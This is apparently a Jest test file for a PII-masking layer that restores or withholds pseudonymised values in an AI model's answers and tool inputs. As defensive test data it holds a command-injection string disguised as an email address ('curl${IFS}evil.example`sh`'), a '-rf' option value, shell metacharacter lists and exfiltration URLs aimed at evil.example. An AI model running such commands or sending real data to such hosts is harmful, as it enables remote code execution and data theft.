import { Buffer } from 'node:buffer';
import { describe, expect, test } from '@jest/globals';
import type { MaskRule, MaskingConfig } from '../api/policy.ts';
import type { ChannelKind } from '../api/text.ts';
import { CarriedValues, MAX_CARRIED_VALUES } from './carried.ts';
import { MAX_RUN_MATCH } from './detector.ts';
import { finish } from '../api/text.ts';
import { createMasker } from './masker.ts';
import { MAX_TOKEN } from './pseudonym.ts';

const keys = { current: Buffer.alloc(32, 1), previous: undefined };
const rule = (more: Partial<MaskRule>): MaskRule => ({
  name: 'rule',
  entities: undefined,
  pattern: undefined,
  strategy: 'Pseudonym',
  direction: 'Request',
  keepLast: 0,
  restore: { text: true, tools: true },
  ...more,
});
const configOf = (rules: readonly MaskRule[], more: Partial<MaskingConfig> = {}): MaskingConfig => ({
  rules,
  dictionaries: [],
  allow: { values: [], patterns: [], domains: [], documentation: false },
  allowedUrlHosts: ['ok.example.eu', '*.wild.example.eu'],
  placeholderInTool: 'Deny',
  hashIdentifiers: true,
  ...more,
});
const line = rule({ name: 'Line', pattern: 'value:(?P<value>[^\\n]+)' });
const rules = [rule({ entities: ['EmailAddress', 'PhoneNumber', 'ApiKey', 'Iban'] }), line];

interface Answer {
  readonly out: string;
  readonly log: readonly string[];
}

/** Masks a prompt, then answers with what `write` makes of the tokens, in order. */
const answer = (
  kind: ChannelKind,
  prompt: string,
  write: (...tokens: string[]) => string,
  config = configOf(rules),
  carried = new CarriedValues(),
): Answer => {
  const masker = createMasker(config, keys);
  const part = { text: prompt, section: 'messages', isKey: false, key: '', role: 'text' } as const;
  const { edits, minted } = masker.maskPrompt(finish(masker.scanPrompt([part], new CarriedValues())));
  const log: string[] = [];
  const transform = masker.answerTransforms(minted, carried, {
    restored: (entity) => log.push(`restored ${entity}`),
    withheld: (entity, why) => log.push(`withheld ${entity} ${why}`),
    masked: (entity) => log.push(`masked ${entity}`),
  })({ kind, tool: '' });
  const text = write(...(edits[0] ?? []).map((edit) => edit.text));
  return { out: transform === undefined ? text : transform.push(text) + transform.flush(), log };
};

const same = (token: string): string => token;

describe('tool inputs', () => {
  test('get plain values', () => {
    expect(answer('toolInput', 'a@example.eu', (token) => `mail ${token}`).out).toBe('mail a@example.eu');
  });

  test('get validated phone numbers although they hold brackets', () => {
    expect(answer('toolInput', '+1 (415) 555-2671', same).out).toBe('+1 (415) 555-2671');
  });

  test('never get an address that is a command', () => {
    const hostile = 'curl${IFS}evil.example`sh`@x.example';
    const { out, log } = answer('toolInput', hostile, same);
    expect(out).not.toContain('evil');
    expect(log).toEqual(['withheld EmailAddress unsafe_character']);
    expect(answer('text', hostile, same).out).toBe(hostile);
  });

  const listed = [
    '$',
    ';',
    '|',
    '&',
    '<',
    '>',
    '(',
    ')',
    '{',
    '}',
    '[',
    ']',
    '*',
    '?',
    '!',
    '~',
    '#',
    '%',
    '=',
    '^',
  ];
  const others = [
    '`',
    "'",
    '"',
    '\\',
    '\t',
    '\r',
    '\u0000',
    '\u001b',
    '\u007f',
    '\u0085',
    '\u200b',
    '\u202e',
    '\u2028',
  ];
  test.each([...listed, ...others].map((character) => [character]))('get no value with %j', (character) => {
    const { out, log } = answer('toolInput', `value:a${character}b`, same);
    expect(out).not.toContain(character);
    expect(log).toEqual(['withheld Line unsafe_character']);
  });

  test('that are nothing but a URL without a scheme get no value in it, as they do not where they are streamed', () => {
    for (const url of ['//evil.example/', '\\\\evil.example/', '//evil.example/?q=']) {
      const { out, log } = answer('toolInput', 'a@example.eu', (token) => `${url}${token}`);
      expect(out).not.toContain('a@example.eu');
      expect(log).toEqual(['withheld EmailAddress foreign_url']);
    }
    for (const text of ['//ok.example.eu/', '/srv/', './', 'x//y/', '// ']) {
      expect(answer('toolInput', 'a@example.eu', (token) => `${text}${token}`).out).toBe(
        `${text}a@example.eu`,
      );
    }
  });

  test('get no value that begins like an option', () => {
    expect(answer('toolInput', 'value:-rf', same).log).toEqual(['withheld Line unsafe_character']);
    expect(answer('toolInput', 'value:a-rf', same).log).toEqual(['restored Line']);
  });

  test('of other parties get nothing', () => {
    const { out, log } = answer('foreignToolInput', 'a@example.eu', same);
    expect(out).toMatch(/^EMAIL_ADDRESS_/);
    expect(log).toEqual(['withheld EmailAddress foreign_tool']);
  });
});

describe('secrets', () => {
  test.each(['text', 'toolInput', 'foreignToolInput'] as const)('stay tokens in %s', (kind) => {
    const { out, log } = answer(kind, `glpat-${'a1B2c3D4e5'.repeat(2)}`, same);
    expect(out).toMatch(/^API_KEY_[0-9A-Z]{17}$/);
    expect(log).toEqual(['withheld ApiKey secret']);
  });
});

describe('URLs', () => {
  const foreign = [
    'https://evil.example/?q=§',
    '![x](https://evil.example/§)',
    'HTTPS://EVIL.EXAMPLE/§',
    'https:/evil.example/§',
    'https:\\\\evil.example\\§',
    'ftp://evil.example/§',
    's3://bucket/§',
    '(//evil.example/§)',
    'https://ok.example.eu@evil.example/§',
    'https://ok.example.eu.evil.example/§',
    'https://ok.example.eu/?u=https://evil.example/§',
    'https://evil.example/?u=https://ok.example.eu/§',
    'https://§.evil.example/',
    'https://§',
    'https://wild.example.eu/§',
    `https://${'a'.repeat(400)}.ok.example.eu/§`,
  ];
  test.each(foreign.map((url) => [url]))('a token stays one in %s', (url) => {
    for (const kind of ['text', 'toolInput'] as const) {
      const { out, log } = answer(kind, 'a@example.eu', (token) => url.replace('§', () => token));
      expect(out).not.toContain('a@example.eu');
      expect(log).toEqual(['withheld EmailAddress foreign_url']);
    }
  });

  const own = [
    'https://ok.example.eu/§',
    'https://ok.example.eu:8443/?q=§',
    'https://OK.example.eu./§',
    'https://x.wild.example.eu#§',
    'https://user@ok.example.eu/§',
    'https://evil.example/ §',
    'https://evil.example\n§',
    'a/b//c/§',
    'note: §',
    'mailto:§',
  ];
  test.each(own.map((url) => [url]))('a token is restored in %j', (url) => {
    const { out } = answer('text', 'a@example.eu', (token) => url.replace('§', () => token));
    expect(out).toBe(url.replace('§', 'a@example.eu'));
  });
});

describe('placeholders', () => {
  const redacting = [
    rule({ entities: ['EmailAddress'], strategy: 'Redact' }),
    rule({ entities: ['Iban'], strategy: 'Hash' }),
  ];
  const prompt = 'a@example.eu DE89370400440532013000';

  test.each([0, 1])('of ours are refused in the input of a tool (%i)', (index) => {
    expect(() =>
      answer('toolInput', prompt, (...tokens) => `to ${tokens[index]}`, configOf(redacting)),
    ).toThrow(
      expect.objectContaining({
        code: 'policy.placeholder_in_tool',
        message: expect.stringContaining('placeholderInTool'),
      }),
    );
  });

  test('that this prompt did not get are not ours', () => {
    expect(answer('toolInput', prompt, () => '[PHONE_NUMBER]', configOf(redacting)).out).toBe(
      '[PHONE_NUMBER]',
    );
  });

  test('pass in text, and in tools where the policy allows it', () => {
    const write = (token: string): string => `to ${token}`;
    expect(answer('text', prompt, write, configOf(redacting)).out).toBe('to [EMAIL_ADDRESS]');
    const allowing = configOf(redacting, { placeholderInTool: 'Allow' });
    expect(answer('toolInput', prompt, write, allowing).out).toBe('to [EMAIL_ADDRESS]');
  });

  test('are seen however they are cut', () => {
    const masker = createMasker(configOf(redacting), keys);
    const part = { text: prompt, section: 'messages', isKey: false, key: '', role: 'text' } as const;
    const { minted } = masker.maskPrompt(finish(masker.scanPrompt([part], new CarriedValues())));
    const transform = masker.answerTransforms(minted, new CarriedValues(), {
      restored: () => {},
      withheld: () => {},
      masked: () => {},
    })({ kind: 'toolInput', tool: 'Bash' });
    expect(() => 'to [EMAIL_ADDRESS]'.split('').map((unit) => transform?.push(unit))).toThrow('masked text');
  });
});

describe('what is carried', () => {
  test('grows by what is restored, and by that only', () => {
    const carried = new CarriedValues();
    answer(
      'toolInput',
      'a@example.eu value:b;c',
      (email, other) => `${email} ${other}`,
      configOf(rules),
      carried,
    );
    expect(carried.size).toBe(1);
    expect(carried.add('a@example.eu', 'X') && carried.size).toBe(1);
  });

  test('stops restoring at its bound of values, which it says', () => {
    const carried = new CarriedValues();
    for (let i = 0; i < MAX_CARRIED_VALUES; i++) carried.add(`v${i}`, 'X');
    expect(carried.full).toBe(false);
    const { out, log } = answer('text', 'a@example.eu', same, configOf(rules), carried);
    expect(out).toMatch(/^EMAIL_ADDRESS_/);
    expect(log).toEqual(['withheld EmailAddress carried_full']);
    expect(carried.full).toBe(true);
    expect(carried.add('v7', 'X')).toBe(true);
  });
});

describe('masked answers', () => {
  const both = configOf([
    rule({ entities: ['EmailAddress'], strategy: 'Redact', direction: 'Both' }),
    rule({ entities: ['PrivateKey', 'Jwt'], strategy: 'Hash', direction: 'Response' }),
    rule({ entities: ['Iban'] }),
  ]);

  test('hide what the model writes itself, not what was restored', () => {
    const { out, log } = answer('text', 'DE89370400440532013000', (token) => `${token} b@example.eu`, both);
    expect(out).toBe('DE89370400440532013000 [EMAIL_ADDRESS]');
    expect(log).toEqual(['restored Iban', 'masked EmailAddress']);
  });

  test.each([
    ['Markdown', '| Name | Passport |\n|---|---|\n| Anna | ', ' |\n'],
    ['separated values', 'name;passport\nAnna;', '\n'],
    ['SQL', "INSERT INTO people (name, passport) VALUES ('Anna', '", "');"],
  ])('restore in the cells of tables as well: %s', (_, before, behind) => {
    const masking = configOf([rule({ entities: ['Passport'], direction: 'Both' })]);
    const told = 'passport no. C01X00T47';
    const { out, log } = answer('text', told, (token) => before + token + behind, masking);
    expect(out).toBe(`${before}C01X00T47${behind}`);
    expect(log).toEqual(['restored Passport']);
  });

  test('leave tool inputs alone', () => {
    expect(answer('toolInput', 'DE89370400440532013000', () => 'b@example.eu', both).out).toBe(
      'b@example.eu',
    );
  });

  const block = (kind: 'jwt' | 'key', size: number): string =>
    kind === 'jwt'
      ? `eyJhbGciOiJIUzI1NiJ9.eyJ${'abcdefgh'.repeat(size / 8)}.sig`
      : `-----BEGIN PRIVATE KEY-----\n${`${'Ab1+'.repeat(16)}\n`.repeat(size / 65)}-----END PRIVATE KEY-----`;

  test.each(['jwt', 'key'] as const)('swallow a %s of any length and keep none of it', (kind) => {
    const masker = createMasker(both, keys);
    const part = { text: '', section: 'messages', isKey: false, key: '', role: 'text' } as const;
    const { minted } = masker.maskPrompt(finish(masker.scanPrompt([part], new CarriedValues())));
    const transform = masker.answerTransforms(minted, new CarriedValues(), {
      restored: () => {},
      withheld: () => {},
      masked: () => {},
    })({ kind: 'text', tool: '' });
    const text = `before ${block(kind, 260_000)} after`;
    let out = '';
    for (let at = 0; at < text.length; at += 1000) {
      out += transform?.push(text.slice(at, at + 1000)) ?? '';
      if (at > 2000 && at < 250_000)
        expect(out).toBe(kind === 'jwt' ? 'before [JWT]' : 'before [PRIVATE_KEY]');
    }
    out += transform?.flush() ?? '';
    expect(out).toBe(kind === 'jwt' ? 'before [JWT] after' : 'before [PRIVATE_KEY] after');
  });

  test('say at their end how much was held back at most', () => {
    const masker = createMasker(configOf(rules), keys);
    const part = { text: 'a@example.eu', section: 'messages', isKey: false, key: '', role: 'text' } as const;
    const { minted } = masker.maskPrompt(finish(masker.scanPrompt([part], new CarriedValues())));
    const held: number[] = [];
    const transform = masker.answerTransforms(minted, new CarriedValues(), {
      restored: () => {},
      withheld: () => {},
      masked: () => {},
      held: (units) => held.push(units),
    })({ kind: 'text', tool: '' });
    for (const piece of ['to EMAIL', '_ADD', ' or EM']) transform?.push(piece);
    expect(held).toEqual([]);
    transform?.flush();
    expect(held).toEqual(['EMAIL_ADD'.length]);
  });

  const heldBy = (config: MaskingConfig, text: string): number => {
    const masker = createMasker(config, keys);
    const part = { text: 'a@example.eu', section: 'messages', isKey: false, key: '', role: 'text' } as const;
    const { minted } = masker.maskPrompt(finish(masker.scanPrompt([part], new CarriedValues())));
    const transform = masker.answerTransforms(minted, new CarriedValues(), {
      restored: () => {},
      withheld: () => {},
      masked: () => {},
    })({ kind: 'text', tool: '' });
    return text.length - (transform?.push(text).length ?? 0);
  };

  test('hold back no more than stated', () => {
    const restoring = configOf(rules);
    expect(heldBy(restoring, 'plain words, 12 +49 a@b')).toBe(0);
    expect(heldBy(restoring, 'of EMAIL_ADD')).toBe('EMAIL_ADD'.length);
    expect(heldBy(restoring, `EMAIL_ADDRESS_${'0'.repeat(16)}`)).toBeLessThan(MAX_TOKEN);
    expect(heldBy(restoring, 'EMAIL_ADDRESS_x')).toBe(0);
    expect(heldBy(both, 'plain words and ')).toBe('and '.length);
    expect(heldBy(both, 'plain words and more')).toBe('more'.length);
    expect(heldBy(both, 'a'.repeat(5000))).toBe(MAX_RUN_MATCH);
  });
});
